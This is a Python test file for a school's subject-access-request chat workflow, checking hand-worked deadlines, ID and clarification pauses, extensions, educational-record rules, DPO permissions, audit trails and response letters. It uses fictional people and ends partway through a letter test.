"""The SAR workflow end to end, through the real chat, on SQLite and PostgreSQL.

Every date here is worked out by hand from DOMAIN.md sections 1 and 2 (and the 2026/27 bank
holidays for England), so a wrong rule shows up as a wrong date, not as a vaguer assertion.
"""

from __future__ import annotations

import csv
import getpass
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlmodel import Session, col, select

from tests.conftest import PARENT_SAR, School_, make_school, run_cli, text_of
from workflows.audit.models import AuditEvent
from workflows.consent.service import validity_months as consent_validity
from workflows.core.ui import Document, Question, Summary
from workflows.database import make_engine, session_scope, upgrade
from workflows.deadlines import TermCalendar
from workflows.notifications.models import Notification
from workflows.reminders.planner import pending_for
from workflows.sar.export import export_rows, to_csv
from workflows.sar.models import CaseNote, RightsRequest
from workflows.schools.models import School

REF = "SAR-2026-0001"  # every test starts from an empty database

# Autumn 2 2026 with an INSET day on Friday 27 November; Spring 1 after Christmas.
TERM_CSV = """kind,start,end,name
term,2026-09-02,2026-10-23,Autumn 1
term,2026-11-02,2026-12-18,Autumn 2
closure,2026-11-27,,INSET day
term,2027-01-05,2027-02-12,Spring 1
"""


def at(year: int, month: int, day: int, hour: int = 10) -> datetime:
    """A moment in UTC; every date used here is in GMT, so the local date is the same."""
    return datetime(year, month, day, hour, 0, tzinfo=UTC)


def intake(
    *,
    kind: str = "1",
    requester: str = "Jane Parent",
    relationship: str = "parent",
    about_self: str = "no",
    subject: str | None = "Tom Parent",
    authority: str | None = None,
    email: str = "jane@example.org",
    phone: str = "skip",
    address: str = "skip",
    channel: str = "email",
    received: str = "yesterday 14:00",
    details: str = "All behaviour records for Tom held by the class teacher",
    id_needed: str = "no",
) -> tuple[str, ...]:
    """The answers a member of staff types, in the order the bot asks."""
    answers = ["I need to log a subject access request", kind, requester, relationship,
               about_self]
    if about_self == "no":
        answers.append(subject or "")
    if authority is not None:
        answers.append(authority)
    answers += [email, phone, address, channel, received, details, id_needed]
    return tuple(answers)


def log(school: School_, who: str = "sam", *answers: str) -> str:
    """Answer every question, confirm, and return the bot's last words."""
    return school.says(who, *(answers or PARENT_SAR), "yes")


def case(school: School_, reference: str = REF) -> RightsRequest:
    with Session(school.engine) as session:
        found = session.exec(
            select(RightsRequest).where(RightsRequest.reference == reference)
        ).one()
        session.expunge(found)
        return found


def count_cases(school: School_) -> int:
    with Session(school.engine) as session:
        return len(list(session.exec(select(RightsRequest))))


def trail(school: School_, reference: str = REF) -> list[tuple[str, str]]:
    """(who, what) for every event on the case except reads, oldest first."""
    with Session(school.engine) as session:
        events = session.exec(
            select(AuditEvent)
            .where(AuditEvent.subject_ref == reference)
            .order_by(col(AuditEvent.id))
        )
        return [(e.actor_name, e.action) for e in events if not e.action.endswith(".viewed")]


def reminder_targets(school: School_, reference: str = REF) -> set[str]:
    with Session(school.engine) as session:
        return {r.target for r in pending_for(session, "sar", case(school, reference).id)}


def act(school: School_, who: str, command: str, *answers: str) -> str:
    """A DPO action: the command, its answers, and the final "yes"."""
    return school.says(who, f"{command} {REF}", *answers, "yes")


def last_question(school: School_, who: str, message: str) -> Question:
    replies = school.say(who, message)
    questions = [r for r in replies if isinstance(r, Question)]
    assert questions, text_of(replies)
    return questions[-1]


def letter(school: School_, kind: str, who: str = "dee") -> str:
    replies = school.say(who, f"letter {REF} {kind}")
    documents = [r for r in replies if isinstance(r, Document)]
    assert len(documents) == 1, text_of(replies)
    return documents[0].body


def set_calendar(school: School_, csv_text: str | None = TERM_CSV) -> None:
    with session_scope(school.engine) as session:
        found = session.get(School, school.school_id)
        found.term_calendar_csv = (
            TermCalendar.from_csv(csv_text).to_csv() if csv_text is not None else None
        )
        session.add(found)


def set_school(school: School_, **settings: object) -> None:
    with session_scope(school.engine) as session:
        found = session.get(School, school.school_id)
        for name, value in settings.items():
            setattr(found, name, value)
        session.add(found)


# ---------------------------------------------------------------------------------------------
# The acceptance story
# ---------------------------------------------------------------------------------------------


def test_acceptance_story_log_id_pause_resume_extend_close(school: School_) -> None:
    """Sam logs Jane's request on Monday 23 November 2026 (it came in on Sunday); ID is doubted."""
    said = log(school, "sam", *intake(id_needed="yes"))
    assert f"Saved as {REF}." in said
    logged = case(school)
    assert (logged.state, logged.received_on, logged.id_requested_on, logged.due_on) == (
        "awaiting_id", date(2026, 11, 22), date(2026, 11, 23), None)
    assert reminder_targets(school) == set()  # no clock, no nudges
    with Session(school.engine) as session:
        alerts = {(n.person_id, n.text) for n in session.exec(select(Notification))}
    alert = ("New subject access request SAR-2026-0001, logged by Sam Teacher. Clock not "
             "started: waiting for ID or authority. Type “SAR-2026-0001” to open it.")
    # The DPO team is told privately, with a reference and no requester's name.
    assert alerts == {(school.people["dee"], alert), (school.people["vic"], alert)}

    # The DPO sees it in the list and opens it.
    listing = school.says("dee", "cases")
    assert f"{REF} | Waiting for ID or authority | clock stopped" in listing
    shown = school.says("dee", REF)
    assert "ID: asked Monday 23 November 2026; not yet arrived" in shown
    assert "The clock has not started: the school is waiting for the requester's ID." in shown
    assert "take SAR-2026-0001" in shown and "record id SAR-2026-0001" in shown

    assert "is yours now" in act(school, "dee", "take")

    # ID arrives on Thursday 26 November: day one. 26 December is Boxing Day on a Saturday,
    # Monday 28 December is its substitute holiday, so the deadline is Tuesday 29 December.
    school.now = at(2026, 11, 26)
    said = act(school, "dee", "record id", "id", "today")
    assert "The clock started on Thursday 26 November 2026." in said
    assert "Due Tuesday 29 December 2026" in said
    opened = case(school)
    assert (opened.state, opened.id_received_on, opened.due_on) == (
        "open", date(2026, 11, 26), date(2026, 12, 29))
    assert opened.deadline_explanation.startswith(
        "Day one is Thursday 26 November 2026: the school asked for the requester's ID, and that "
        "is the day it arrived (the request itself arrived on Sunday 22 November 2026).")
    assert "Monday 28 December 2026 is the substitute bank holiday for Boxing Day" in (
        opened.deadline_explanation)
    assert "2026-12-29" in reminder_targets(school)

    # Clarification asked Tuesday 1 December, answered Friday 4 December: 4 days, both ends.
    school.now = at(2026, 12, 1)
    said = act(school, "dee", "pause", "today", "Which school years do you mean?")
    assert "Paused from Tuesday 1 December 2026." in said
    paused = case(school)
    assert (paused.state, paused.due_on) == ("paused", None)
    assert reminder_targets(school) == set()  # a stopped clock has no deadline to nudge about
    school.now = at(2026, 12, 4)
    said = act(school, "dee", "resume", "today")
    assert "Resumed. 4 days did not count (both ends included)." in said
    resumed = case(school)
    # 26 December + 4 paused days = Wednesday 30 December, a working day.
    assert (resumed.state, resumed.due_on) == ("open", date(2026, 12, 30))
    assert ("Adding the 4 paused days to Saturday 26 December 2026 gives Wednesday 30 December "
            "2026.") in resumed.deadline_explanation
    assert reminder_targets(school) >= {"2026-12-30"}
    assert "2026-12-29" not in reminder_targets(school)  # the old deadline's nudges are gone

    # Extension on Monday 7 December: three months from day one (26 February 2027) plus the
    # 4 paused days = Tuesday 2 March 2027; the notice was due by Wednesday 30 December.
    school.now = at(2026, 12, 7)
    said = act(school, "dee", "extend", "Six years of records across three teachers", "today")
    assert "Extended." in said
    extended = case(school)
    assert (extended.extended, extended.extension_notice_on, extended.due_on) == (
        True, date(2026, 12, 7), date(2027, 3, 2))
    assert extended.deadline_rule == "three months (extended)"
    assert ("The requester must be told about the extension, with the reasons, by Wednesday 30 "
            "December 2026 (one calendar month from day one plus the 4 paused days)."
            ) in extended.deadline_explanation

    # Closed on Monday 1 February 2027, partly disclosed.
    school.now = at(2027, 2, 1)
    said = act(school, "dee", "close", "part", "Third-party names redacted (DPA 2018 Sch 2 "
               "para 16)", "today", "email")
    assert "Closed. The record can be added to, never changed." in said
    assert "letter SAR-2026-0001 response" in said
    closed = case(school)
    assert (closed.state, closed.closed_on, closed.outcome, closed.response_method) == (
        "closed", date(2027, 2, 1), "disclosed_part", "email")
    assert closed.due_on == date(2027, 3, 2)
    assert reminder_targets(school) == set()

    # Who did what, in order, with the actor.
    assert trail(school) == [
        ("Sam Teacher", "sar.created"),
        ("Dee Dpo", "sar.take"),
        ("Dee Dpo", "sar.record_id"),
        ("Dee Dpo", "sar.pause"),
        ("Dee Dpo", "sar.resume"),
        ("Dee Dpo", "sar.extend"),
        ("Dee Dpo", "sar.close"),
    ]
    history = school.says("dee", f"history {REF}")
    for line in ("Sam Teacher | created", "Dee Dpo | take", "Dee Dpo | record id",
                 "Dee Dpo | pause", "Dee Dpo | resume", "Dee Dpo | extend", "Dee Dpo | close"):
        assert line in history
    assert "01 Feb 2027 10:00 | Dee Dpo | close | Third-party names redacted" in history
    # Each decision's reasons are in its line: why the deadline moved, why part was withheld.
    assert "| Dee Dpo | extend | Six years of records across three teachers |" in history

    # The export lists it with every date.
    with session_scope(school.engine) as session:
        row = export_rows(session, session.get(School, school.school_id), actor="Dee Dpo")[0]
    assert {k: row[k] for k in (
        "reference", "received_on", "id_requested_on", "id_received_on", "clarification",
        "extension_notice_on", "due_on", "closed_on", "outcome", "on_time")} == {
        "reference": REF, "received_on": "2026-11-22", "id_requested_on": "2026-11-23",
        "id_received_on": "2026-11-26", "clarification": "2026-12-01 to 2026-12-04",
        "extension_notice_on": "2026-12-07", "due_on": "2027-03-02", "closed_on": "2027-02-01",
        "outcome": "disclosed_part", "on_time": True}


# ---------------------------------------------------------------------------------------------
# When the clock starts: ID and a third party's authority
# ---------------------------------------------------------------------------------------------


def test_id_needed_stops_the_clock_until_the_id_arrives(school: School_) -> None:
    """Received Thursday 4 September 2025, ID in on Wednesday 10 September: due Friday 10 Oct."""
    school.now = at(2025, 9, 4)
    said = school.says("sam", *intake(received="today 9:00", id_needed="yes"))
    assert "The clock starts when the ID or authority arrives" in said  # read back before saving
    assert "Saved as SAR-2025-0001." in school.says("sam", "yes")
    ref = "SAR-2025-0001"
    waiting = case(school, ref)
    assert (waiting.state, waiting.due_on, waiting.id_requested_on, waiting.deadline_rule) == (
        "awaiting_id", None, date(2025, 9, 4), "clock not started")
    assert reminder_targets(school, ref) == set()
    assert "Waiting for ID or authority | clock stopped" in school.says("dee", "cases")

    # A date before the request arrived cannot start the clock.
    school.now = at(2025, 9, 10)
    said = school.says("dee", f"record id {ref}", "id", "3/9/2025")
    assert "That is before the request arrived (Thursday 4 September 2025)." in said
    assert case(school, ref).id_received_on is None
    assert last_question(school, "dee", "help").field == "received_on"  # asked again
    said = school.says("dee", "today", "yes")
    assert "The clock started on Wednesday 10 September 2025." in said
    started = case(school, ref)
    assert (started.state, started.id_received_on, started.due_on) == (
        "open", date(2025, 9, 10), date(2025, 10, 10))
    assert reminder_targets(school, ref) >= {"2025-10-10"}
    # Recording ID is a state change of the case, so it is not offered twice.
    assert "record id" not in school.says("dee", ref)


def test_solicitor_with_authority_needed_waits_for_the_authority(school: School_) -> None:
    """A solicitor for a former pupil: the clock starts when the client's authority arrives."""
    said = log(school, "kim", *intake(
        requester="Alex Law LLP", relationship="solicitor", subject="Chris Former",
        authority="yes", email="alex@law.example", details="Chris's SEN file, 2019-2022"))
    assert f"Saved as {REF}." in said
    waiting = case(school)
    assert (waiting.state, waiting.authority_requested_on, waiting.id_requested_on,
            waiting.due_on) == ("awaiting_id", date(2026, 11, 23), None, None)
    assert waiting.deadline_explanation == (
        "The clock has not started: the school is waiting for the written authority of the "
        "person the data is about. Day one will be the day it arrives.")

    # ID was never asked for, so it cannot "arrive": the question is asked again.
    replies = school.say("dee", f"record id {REF}")
    for answer in ("id", "today"):
        replies = school.say("dee", answer)
    replies = school.say("dee", "yes")
    assert "The school did not ask for ID on this case." in text_of(replies)
    assert [r.field for r in replies if isinstance(r, Question)] == ["what"]

    # Authority arrives on Wednesday 2 December 2026: due Monday 4 January 2027 (2 January is
    # a Saturday; the Scottish 2 January holiday does not apply in England).
    # The date typed before is kept, so the summary comes back and the date is edited.
    school.now = at(2026, 12, 2)
    assert "2. Arrived on: Monday 23 November 2026" in school.says("dee", "authority")
    said = school.says("dee", "edit 2", "today", "yes")
    assert "The clock started on Wednesday 2 December 2026." in said
    started = case(school)
    assert (started.state, started.authority_received_on, started.due_on) == (
        "open", date(2026, 12, 2), date(2027, 1, 4))
    assert "the written authority of the person the data is about" in (
        started.deadline_explanation)


def test_asking_for_id_later_restarts_day_one(school: School_) -> None:
    """An open case where doubt arises: ID asked Wednesday 25 November, in Monday 30 November."""
    log(school)
    assert case(school).due_on == date(2026, 12, 22)  # Sunday 22 November + one month
    school.now = at(2026, 11, 25)
    said = act(school, "dee", "request id", "id", "today")
    assert "The clock stops until ID arrives." in said
    waiting = case(school)
    assert (waiting.state, waiting.due_on, waiting.id_requested_on) == (
        "awaiting_id", None, date(2026, 11, 25))
    assert reminder_targets(school) == set()
    school.now = at(2026, 11, 30)
    act(school, "dee", "record id", "id", "today")
    # 30 December 2026 is a Wednesday: day one is 30 November, not 22 November.
    assert case(school).due_on == date(2026, 12, 30)


def test_asking_for_id_after_a_clarification_pause(school: School_) -> None:
    """A clarification before the school asked for ID must not block the restarted clock.

    Day one restarts when the ID arrives, so a pause that ended before then no longer counts.
    """
    log(school)
    school.now = at(2026, 11, 24)
    act(school, "dee", "pause", "today", "skip")
    school.now = at(2026, 11, 26)
    act(school, "dee", "resume", "today")
    assert case(school).due_on == date(2026, 12, 29)  # 22 Dec + 3 days = Fri 25 Dec -> 29th
    school.now = at(2026, 11, 27)
    act(school, "dee", "request id", "id", "today")
    school.now = at(2026, 12, 1)
    said = act(school, "dee", "record id", "id", "today")
    assert "The clock started on Tuesday 1 December 2026." in said
    restarted = case(school)
    # A month from day one (1 December) is Friday 1 January 2027, New Year's Day; then the
    # weekend: Monday 4 January 2027. The old pause belonged to the replaced clock.
    assert (restarted.state, restarted.due_on) == ("open", date(2027, 1, 4))
    assert "paused" not in restarted.deadline_explanation


def test_every_rights_request_type_has_one_calendar_month(school: School_) -> None:
    """Erasure, rectification and the other rights run on the SAR clock (DOMAIN.md 1)."""
    kinds = [("sar", "access", "Subject access request"),
             ("delete", "erasure", "Erasure request"),
             ("correct", "rectification", "Rectification request"),
             ("restrict", "restriction", "Restriction request"),
             ("object", "objection", "Objection"),
             ("port", "portability", "Portability request")]
    for number, (typed, stored, label) in enumerate(kinds, 1):
        said = log(school, "sam", *intake(kind=typed))
        ref = f"SAR-2026-{number:04d}"
        assert f"Saved as {ref}." in said and f"Type: {label}" in said
        logged = case(school, ref)
        assert (logged.request_type, logged.due_on, logged.deadline_rule) == (
            stored, date(2026, 12, 22), "one calendar month")
    school.says("dee", "close SAR-2026-0002", "yes", "done", "today", "email", "yes")
    body = school.says("dee", "letter SAR-2026-0002 response")
    assert "We have completed your erasure request" in body
    assert "We have done what you asked." in body


def test_received_just_after_midnight_in_summer_is_that_local_day(school: School_) -> None:
    """00:30 BST on Monday 1 June 2026 is 23:30 UTC on Sunday 31 May: day one is 1 June."""
    school.now = at(2026, 6, 1, 9)
    log(school, "sam", *intake(received="today 00:30"))
    logged = case(school)
    assert logged.received_at.astimezone(UTC) == datetime(2026, 5, 31, 23, 30, tzinfo=UTC)
    assert (logged.received_on, logged.due_on) == (date(2026, 6, 1), date(2026, 7, 1))


def test_pause_and_resume_refuse_impossible_dates(school: School_) -> None:
    log(school)
    school.now = at(2027, 1, 4)
    replies = school.say("dee", f"pause {REF}")
    replies = school.say("dee", "21/11/2026")  # refused as it is typed, not at the summary
    assert "That is before the clock started (Sunday 22 November 2026)." in text_of(replies)
    assert [r.field for r in replies if isinstance(r, Question)] == ["asked_on"]
    # Tuesday 22 December had passed: an expired clock cannot be paused back to life.
    replies = school.say("dee", "23/12/2026")
    replies = school.say("dee", "skip")
    replies = school.say("dee", "yes")
    assert ("comes after the deadline of Tuesday 22 December 2026 had passed; a clock that has "
            "run out cannot be paused.") in text_of(replies)
    assert [r.field for r in replies if isinstance(r, Question)] == ["asked_on"]
    school.says("dee", "cancel")
    assert case(school).state == "open"

    school.now = at(2026, 12, 2)
    act(school, "dee", "pause", "1/12/2026", "skip")
    replies = school.say("dee", f"resume {REF}")
    replies = school.say("dee", "30/11/2026")
    assert ("That is before the school asked them to clarify (Tuesday 1 December 2026)."
            in text_of(replies))
    assert case(school).state == "paused"


def test_extension_while_paused_is_checked_against_the_earliest_notice_deadline(
    school: School_
) -> None:
    """Paused from Tuesday 1 December: if the answer came that day, the notice deadline would be
    22 December + 1 day = Wednesday 23 December, so a notice dated after it can't be relied on."""
    log(school)
    school.now = at(2026, 12, 1)
    act(school, "dee", "pause", "today", "skip")
    said = act(school, "dee", "extend", "Several thousand emails", "1/3/2027")
    assert ("if their answer arrived today they would have to be told by Wednesday 23 December "
            "2026") in said
    assert not case(school).extended
    said = school.says("dee", "today", "yes")
    assert "Extended." in said
    # Answered Friday 4 December: 4 paused days; 22 February 2027 + 4 = Friday 26 February.
    school.now = at(2026, 12, 4)
    act(school, "dee", "resume", "today")
    assert case(school).due_on == date(2027, 2, 26)


# ---------------------------------------------------------------------------------------------
# Extension: up to three months, told within the first month, once, never for an edu record
# ---------------------------------------------------------------------------------------------


def test_extension_refused_after_the_notice_deadline(school: School_) -> None:
    """Received Sunday 22 November 2026: the requester had to be told by Tuesday 22 December."""
    log(school)
    school.now = at(2026, 12, 23)
    said = school.says("dee", f"extend {REF}")
    assert ("Too late to extend: the requester had to be told by Tuesday 22 December 2026, "
            "within the first month. The deadline stays Tuesday 22 December 2026.") in said
    assert f"extend {REF}" not in school.says("dee", REF)  # not offered either
    assert not case(school).extended

    # On the last day it is still possible, but a notice dated after it is refused.
    school.now = at(2026, 12, 22)
    replies = school.say("dee", f"extend {REF}")
    for answer in ("Several years of records", "23/12/2026", "yes"):
        replies = school.say("dee", answer)
    assert ("The requester had to be told by Tuesday 22 December 2026 (the end of the first "
            "month); an extension notice after that is out of time.") in text_of(replies)
    assert [r.field for r in replies if isinstance(r, Question)] == ["notice_on"]
    assert not case(school).extended
    said = school.says("dee", "today", "yes")
    assert "Extended." in said
    extended = case(school)
    # Three months from Sunday 22 November 2026 is Monday 22 February 2027, a working day.
    assert (extended.due_on, extended.extension_notice_on, extended.extension_reason) == (
        date(2027, 2, 22), date(2026, 12, 22), "Several years of records")


def test_extension_refused_twice(school: School_) -> None:
    log(school)
    act(school, "dee", "extend", "Complex: many staff emails", "today")
    assert case(school).due_on == date(2027, 2, 22)
    said = school.says("dee", f"extend {REF}")
    assert f"{REF} has already been extended." in said
    assert trail(school).count(("Dee Dpo", "sar.extend")) == 1


def test_extension_from_31_january_ends_30_april(school: School_) -> None:
    """DOMAIN.md's month-end example: 31 January 2025 -> 30 April 2025 (a Wednesday)."""
    school.now = at(2025, 2, 3)
    log(school, "sam", *intake(received="31/1/2025 11:00"))
    ref = "SAR-2025-0001"
    assert case(school, ref).due_on == date(2025, 2, 28)  # no 31 February: the last day
    school.says("dee", f"extend {ref}", "Over 400 emails to review", "today", "yes")
    assert case(school, ref).due_on == date(2025, 4, 30)


def test_assign_to_a_colleague(school: School_) -> None:
    log(school)
    replies = school.say("dee", f"assign {REF}")
    # Everyone at the school, by name, by number: the owner gathers the data and is nudged.
    assert [o.label for o in next(r for r in replies if isinstance(r, Question)).options] == [
        "Dee Dpo", "Hal Head", "Kim Teacher", "Sam Teacher", "Vic Deputy"]
    replies = school.say("dee", "Teacher")
    assert ("Several people match “Teacher”: Kim Teacher, Sam Teacher. Please type the full "
            "name.") in text_of(replies)
    assert [r.field for r in replies if isinstance(r, Question)] == ["person"]
    said = school.says("dee", "Zed")
    assert ("I don't know “Zed” as someone at the school. Choose Dee Dpo or Hal Head or Kim "
            "Teacher or Sam Teacher or Vic Deputy (type the number or the name).") in said
    assert "There are 5 people to choose from" in school.says("dee", "9")
    summary_said = school.says("dee", "5")
    assert "Assign to: Vic Deputy" in summary_said, summary_said
    said = school.says("dee", "yes")
    assert f"{REF} is now Vic Deputy's. They have been told." in said
    assert "Owner: Vic Deputy" in said
    assert case(school).owner_id == school.people["vic"]
    with Session(school.engine) as session:
        told = session.exec(select(Notification).where(
            Notification.kind == "sar.assigned",
            Notification.person_id == school.people["vic"])).one()
    assert told.text == (f"{REF} has been assigned to Vic Deputy by Dee Dpo. Due Tuesday 22 "
                         "December 2026.")
    assert trail(school)[-1] == ("Dee Dpo", "sar.assign")


def test_staff_cannot_take_dpo_actions(school: School_) -> None:
    log(school)
    # The head sees every case but decides nothing; a deputy decides.
    assert school.says("hal", REF).startswith(f"{REF}\nOpen\nType: Subject access request")
    assert "Only the DPO or a deputy can take the case." in school.says("hal", f"take {REF}")
    assert "is yours now" in act(school, "vic", "take")
    for command in ("extend", "close", "take", "pause", "letter"):
        said = school.says("sam", f"{command} {REF}")
        if command == "letter":
            assert "Only the DPO or a deputy can draft letters." in said
        else:
            assert "Only the DPO or a deputy can" in said and "Nothing was changed." in said
    shown = school.says("sam", REF)
    assert f"note {REF}" in shown and f"extend {REF}" not in shown
    assert trail(school) == [("Sam Teacher", "sar.created"), ("Vic Deputy", "sar.take")]
    # Kim did not log it, so for Kim it does not exist.
    assert f"I can't find a case {REF} that you can see." in school.says("kim", REF)


# ---------------------------------------------------------------------------------------------
# Educational record requests: 15 school days, maintained schools, parents only
# ---------------------------------------------------------------------------------------------

EDU_RECORD = intake(kind="educational record",
                    details="A copy of Tom's educational record")


def test_educational_record_due_in_15_school_days(school: School_) -> None:
    """Received Sunday 22 November 2026. School days from Monday 23rd, skipping the INSET day
    on Friday 27th and the weekends: the 15th is Monday 14 December 2026."""
    set_calendar(school)
    said = school.says("sam", *EDU_RECORD)
    assert "Deadline: Monday 14 December 2026 (15 school days)." in said
    assert f"Saved as {REF}." in school.says("sam", "yes")
    logged = case(school)
    assert (logged.request_type, logged.state, logged.due_on, logged.deadline_rule) == (
        "educational_record", "open", date(2026, 12, 14), "15 school days")
    assert "INSET day" in logged.deadline_explanation
    assert "2026-12-14" in reminder_targets(school)

    # Neither the SAR pause nor the SAR extension applies.
    assert ("An educational record request can't be extended: 15 school days is fixed."
            in school.says("dee", f"extend {REF}"))
    assert ("The clarification pause is a SAR rule; it does not apply to educational records."
            in school.says("dee", f"pause {REF}"))
    shown = school.says("dee", REF)
    assert f"extend {REF}" not in shown and f"pause {REF}" not in shown
    assert "Type: Educational record request" in shown


@pytest.mark.parametrize(
    ("setup", "answers", "refusal"),
    [
        ("academy", EDU_RECORD, "Hillside Primary is not a maintained school, so there is no "
         "separate educational-record right"),
        ("calendar", intake(kind="educational record", requester="Tom Parent",
                            relationship="pupil", about_self="yes", subject=None),
         "Only a parent can ask to see a pupil's educational record"),
        ("none", EDU_RECORD, "Hillside Primary has no term calendar yet, so the 15 school days "
         "can't be counted."),
    ],
    ids=["academy", "pupil", "no-calendar"],
)
def test_educational_record_refused_and_reopened(
    school: School_, setup: str, answers: tuple[str, ...], refusal: str
) -> None:
    """Refused before saving, back at the request type, so a SAR can be logged instead."""
    if setup in ("academy", "calendar"):
        set_calendar(school)
    if setup == "academy":
        set_school(school, maintained=False)
    school.says("sam", *answers)
    replies = school.say("sam", "yes")
    assert refusal in text_of(replies)
    assert [r.field for r in replies if isinstance(r, Question)] == ["request_type"]
    assert count_cases(school) == 0
    # The rest of the answers were kept: choosing a SAR goes straight back to the summary.
    replies = school.say("sam", "1")
    assert isinstance(replies[-1], Summary)
    assert "Deadline: Tuesday 22 December 2026 (one calendar month)." in text_of(replies)
    assert f"Saved as {REF}." in school.says("sam", "yes")
    assert case(school).request_type == "access"


def test_educational_record_at_an_academy_is_flagged_before_confirming(school: School_) -> None:
    """The summary must not promise a 15-school-day deadline the school will then refuse."""
    set_calendar(school)
    set_school(school, maintained=False)
    said = school.says("sam", *EDU_RECORD)
    assert "15 school days" not in said.split("Check ID first")[1]
    assert "is not a maintained school" in said


def test_educational_record_past_the_end_of_the_calendar(school: School_) -> None:
    """A calendar that ends too soon is a request-type problem, not an ID problem."""
    set_calendar(school, "kind,start,end,name\nterm,2026-09-02,2026-12-04,Autumn\n")
    school.says("sam", *EDU_RECORD)
    replies = school.say("sam", "yes")
    assert ("The term calendar ends on Friday 4 December 2026; import next year's term dates"
            in text_of(replies))
    assert [r.field for r in replies if isinstance(r, Question)] == ["request_type"]
    assert count_cases(school) == 0


# ---------------------------------------------------------------------------------------------
# Closing, and a closed record is only appended to
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("outcome", ["refused", "part"])
def test_close_needs_reasons_for_refusal_or_partial_disclosure(
    school: School_, outcome: str
) -> None:
    log(school)
    school.says("dee", f"close {REF}", "yes")  # past the warning that closing is final
    question = last_question(school, "dee", outcome)
    assert (question.field, question.optional) == ("reason", False)
    assert "This one is needed, so it can't be skipped." in school.says("dee", "skip")
    said = school.says("dee", "Manifestly unfounded: the fifth identical request this term",
                       "today", "post", "yes")
    closed = case(school)
    assert closed.outcome == ("refused" if outcome == "refused" else "disclosed_part")
    assert closed.outcome_reason == "Manifestly unfounded: the fifth identical request this term"
    letter_kind = "refusal" if outcome == "refused" else "response"
    assert f"letter {REF} {letter_kind}" in said


@pytest.mark.parametrize(("typed", "stored"), [("full", "disclosed_full"),
                                               ("nothing", "nothing_held")])
def test_close_without_reasons(school: School_, typed: str, stored: str) -> None:
    log(school)
    school.says("dee", f"close {REF}", "yes")
    question = last_question(school, "dee", typed)
    assert question.field == "responded_on"  # no reasons asked
    school.says("dee", "today", "email", "yes")
    closed = case(school)
    assert (closed.state, closed.outcome, closed.outcome_reason, closed.closed_on) == (
        "closed", stored, None, date(2026, 11, 23))


def test_closing_late_says_so(school: School_) -> None:
    log(school)
    school.now = at(2027, 1, 5)
    said = act(school, "dee", "close", "full", "today", "email")
    assert "Closed — late: the deadline was Tuesday 22 December 2026." in said
    assert "Closed 14 days after the deadline." in said


def test_closed_case_is_only_appended_to(school: School_) -> None:
    log(school)
    act(school, "dee", "close", "full", "today", "email")
    before = case(school)
    shown = school.says("dee", REF)
    card_commands = [line for line in shown.splitlines() if line.endswith(f" {REF}")]
    assert card_commands == [f"note {REF}"]
    for command in ("extend", "pause", "resume", "take", "assign", "close", "record id",
                    "request id"):
        said = school.says("dee", f"{command} {REF}")
        assert f"{REF} is closed, so" in said and "is not possible now" in said, command
    school.now = at(2026, 11, 24, 9)
    said = school.says("sam", f"note {REF}", "Jane phoned to say thank you", "yes")
    assert "Note added." in said
    assert ("Note, Tuesday 24 November 2026 at 09:00: Jane phoned to say thank you "
            "(Sam Teacher)") in said
    after = case(school)
    fields = ("state", "version", "due_on", "deadline_explanation", "closed_on", "outcome")
    assert {f: getattr(after, f) for f in fields} == {f: getattr(before, f) for f in fields}
    with Session(school.engine) as session:
        assert [n.text for n in session.exec(select(CaseNote))] == [
            "Jane phoned to say thank you"]
    assert trail(school)[-2:] == [("Dee Dpo", "sar.close"), ("Sam Teacher", "sar.note")]


def test_closed_educational_record_is_not_recomputed_by_a_note(school: School_) -> None:
    """A note must not rewrite a closed record's deadline when the term dates change later."""
    set_calendar(school)
    log(school, "sam", *EDU_RECORD)
    act(school, "dee", "close", "full", "today", "collected")
    assert case(school).due_on == date(2026, 12, 14)
    # The school later adds a snow day and, later still, loses its calendar altogether.
    set_calendar(school, TERM_CSV + "closure,2026-12-01,,Snow day\n")
    assert "Note added." in school.says("dee", f"note {REF}", "Parent collected it", "yes")
    set_calendar(school, None)
    assert "Note added." in school.says("dee", f"note {REF}", "Filed", "yes")
    assert case(school).due_on == date(2026, 12, 14)
    assert "Parent collected it" in school.says("dee", REF)


# ---------------------------------------------------------------------------------------------
# Letters
# ---------------------------------------------------------------------------------------------

ICO_LINE = ("the right to complain to the Information Commissioner's Office "
            "(ico.org.uk/make-a-complaint, 0303 123 1113)")
SIGNATURE = "Yours sincerely,\n\nDee Dpo\nData Protection Officer, Hillside Primary"


def _letterhead(body: str, today: str) -> None:
    assert body.startswith(
        f"Hillside Primary\n\nJane Parent\n1 High Street, Hilltown HT1 2AB\n\n{today}\n\n"
        f"Our reference: {REF}\n\nDear Jane Parent,\n\n")
    assert body.endswith(SIGNATURE)
    assert "None" not in body and " ," not in body and "by ." not in body


def test_the_six_letters_carry_the_right_dates(school: School_) -> None:
    """The acceptance story again, drafting each letter when a DPO would."""
    log(school, "sam", *intake(id_needed="yes", address="1 High Street, Hilltown HT1 2AB"))
    body = letter(school, "acknowledgement")
    _letterhead(body, "Monday 23 November 2026")
    assert ("Thank you for your subject access request, which we received on Sunday 22 November "
            "2026, about Tom Parent.") in body
    assert ("Before we can answer we need proof of your identity; we will write separately about "
            "what we need. We will respond within one calendar month of receiving it.") in body
    body = letter(school, "id_request")
    _letterhead(body, "Monday 23 November 2026")
    assert "a copy of one document that confirms your identity" in body
    assert "The one-month period for our response starts on the day we receive it." in body

    school.now = at(2026, 11, 26)
    act(school, "dee", "record id", "id", "today")
    body = letter(school, "acknowledgement")
    _letterhead(body, "Thursday 26 November 2026")
    assert ("We will respond by Tuesday 29 December 2026, which is one calendar month from the day "
            "we received proof of your identity (Thursday 26 November 2026). If your request "
            "turns out to be complex we may need up to two further months; if so, we will tell "
            "you why by Tuesday 29 December 2026.") in body

    school.now = at(2026, 12, 1)
    act(school, "dee", "pause", "today", "Which school years do you mean?")
    body = letter(school, "clarification")
    _letterhead(body, "Tuesday 1 December 2026")
    assert "In particular: Which school years do you mean?" in body
    assert "section 54(3C)" in body
    body = letter(school, "acknowledgement")  # while paused there is no date to promise
    assert "Our time limit is paused until we receive your answer" in body

    school.now = at(2026, 12, 4)
    act(school, "dee", "resume", "today")
    assert ("We will respond by Wednesday 30 December 2026, which is one calendar month from the "
            "day we received proof of your identity (Thursday 26 November 2026), plus the 4 days "
            "our time limit was paused while we waited for you to clarify your request. If your "
            "request turns out to be complex we may need up to two further months; if so, we "
            "will tell you why by Wednesday 30 December 2026.") in letter(
                school, "acknowledgement")

    # Drafted before the extension is recorded, then after: the same new date.
    school.now = at(2026, 12, 7)
    draft = letter(school, "extension")
    assert "because: [reasons]" in draft
